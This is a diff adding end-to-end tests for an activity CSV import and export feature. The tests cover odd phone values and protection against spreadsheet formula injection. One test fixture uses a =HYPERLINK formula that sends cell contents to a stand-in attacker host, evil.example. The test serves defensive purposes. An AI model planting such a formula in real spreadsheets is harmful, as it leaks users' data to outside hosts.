@@ -2,6 +2,7 @@
 // over the list) and off (plain pages and form posts): the download, both import steps reached by clicking, Back and
 // Cancel, the result with its skipped rows, and axe on the import pages.
 import AxeBuilder from "@axe-core/playwright";
+import Papa from "papaparse";
 import type { BrowserContext, Page } from "playwright-core";
 import { beforeAll, describe, expect, it } from "vitest";
 import { CSV_COLUMNS, CSV_MESSAGES, REQUIRED_CSV_COLUMNS } from "~/domain/activity-csv";
@@ -158,4 +159,110 @@ describe.each(["js", "nojs"] as const)("CSV with JavaScript %s", (mode) => {
     if (mode === "js") await toast(page, "Missing required columns for import", "destructive");
     await page.close();
   });
+});
+
+describe("rows the spec keeps", () => {
+  it(
+    "imports a row whose phone is '123'; Phone Validation then lists it as invalid_format",
+    { timeout: LONG },
+    async () => {
+      const title = "CSV odd phone";
+      const text =
+        `${REQUIRED_CSV_COLUMNS.join(",")},phoneNumber,website\r\n` +
+        `${title},A phone that does not parse,36.15,-86.77,Parks,nashville,123,not a website\r\n`;
+      const page = await openList("js");
+      await page.getByRole("link", { name: "Import CSV" }).click();
+      const step2 = await chooseFile(page, text);
+      await expect(step2.getByText("to create").textContent()).resolves.toContain("1");
+      await expect(step2.getByText("to skip").textContent()).resolves.toContain("0");
+      await step2.getByRole("button", { name: "Import" }).click();
+      const result = page.getByRole("dialog", { name: "Import CSV: Result" });
+      await result.getByText("Created: 1. Updated: 0. Skipped: 0.").waitFor();
+
+      const search = await (await site.api(`/api/search?q=${encodeURIComponent(title)}`)).json();
+      const id = (search.activities as { id: number; title: string }[]).find((a) => a.title === title)!.id;
+      const stored = await (await site.api(`/api/activities/${id}`)).json();
+      expect(stored).toMatchObject({ phoneNumber: "123", website: "not a website" });
+
+      // Phone Validation's call, for this activity.
+      const validated = await site.api("/api/activities/validate-batch", {
+        method: "POST",
+        cookie,
+        body: { activityIds: [id], validationType: "phone" },
+      });
+      expect(validated.status).toBe(200);
+      expect((await validated.json()).results[0]).toMatchObject({ phoneStatus: "invalid_format", needsReview: true });
+
+      // The Data Quality tab's review list shows it under the phone issue.
+      await page.goto(`${site.url}/admin/data-quality?issue=phone&q=${encodeURIComponent(title)}`);
+      const row = page.getByRole("list", { name: "Activities needing review" }).getByRole("listitem", { name: title });
+      await row.getByText("Phone: invalid_format").waitFor();
+      await page.close();
+    },
+  );
+});
+
+describe("formulas", () => {
+  it(
+    "are exported with a leading ', which the import removes again: export then import changes nothing",
+    { timeout: LONG },
+    async () => {
+      const titles = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', "-5 things", "@Round the corner"];
+      const ids: number[] = [];
+      for (const title of titles) {
+        const created = await site.api("/api/activities", {
+          method: "POST",
+          cookie,
+          body: {
+            title,
+            category: "Parks",
+            excerpt: `+${title}`,
+            image: "https://images.example/formula.jpg",
+            latitude: "36.16",
+            longitude: "-86.78",
+            cityId: "nashville",
+            phoneNumber: "+1 615-889-3060",
+          },
+        });
+        expect(created.status).toBe(201);
+        ids.push(((await created.json()) as { id: number }).id);
+      }
+      // What the activity is (a row's version or timestamps may move with a write that changes nothing else).
+      const read = async (id: number) => {
+        const {
+          version: _v,
+          updatedAt: _u,
+          ...activity
+        } = (await (await site.api(`/api/activities/${id}`)).json()) as Record<string, unknown>;
+        return activity;
+      };
+      const before = await Promise.all(ids.map(read));
+
+      const page = await openList("nojs");
+      const [download] = await Promise.all([
+        page.waitForEvent("download"),
+        page.getByRole("link", { name: "Export CSV" }).click(),
+      ]);
+      const chunks: Buffer[] = [];
+      for await (const chunk of (await download.createReadStream())!) chunks.push(chunk as Buffer);
+      const [header, ...rows] = Papa.parse<string[]>(Buffer.concat(chunks).toString("utf8").slice(1), {
+        skipEmptyLines: true,
+      }).data;
+      const mine = rows.filter((r) => ids.includes(Number(r[0])));
+      expect(mine.map((r) => r[header!.indexOf("title")])).toEqual(titles.map((t) => `'${t}`));
+      expect(mine.map((r) => r[header!.indexOf("longitude")])).toEqual(titles.map(() => "-86.78"));
+      expect(mine.map((r) => r[header!.indexOf("phoneNumber")])).toEqual(titles.map(() => "'+1 615-889-3060"));
+
+      // Those rows, as exported, imported again (every column).
+      await page.getByRole("link", { name: "Import CSV" }).click();
+      const step2 = await chooseFile(page, Papa.unparse([header!, ...mine], { newline: "\r\n" }));
+      await expect(step2.getByText("to update").textContent()).resolves.toContain(String(titles.length));
+      await step2.getByRole("button", { name: "Import" }).click();
+      const result = page.getByRole("dialog", { name: "Import CSV: Result" });
+      await result.getByText(`Created: 0. Updated: ${titles.length}. Skipped: 0.`).waitFor();
+      const after = await Promise.all(ids.map(read));
+      expect(after).toEqual(before);
+      await page.close();
+    },
+  );
 });
